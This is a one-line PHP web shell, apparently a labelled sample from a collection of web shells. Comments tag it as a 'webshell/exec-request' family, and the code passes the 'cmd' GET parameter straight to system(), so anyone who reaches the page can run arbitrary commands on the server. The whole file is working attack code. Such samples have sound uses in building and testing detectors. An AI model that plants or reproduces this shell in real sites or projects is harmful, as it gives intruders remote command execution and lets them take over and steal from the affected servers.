<?php
// Family: webshell/exec-request
// Style: classic command runner
// Trait: system() on a GET parameter inside pre tags
echo "<pre>"; system($_GET['cmd']); echo "</pre>";
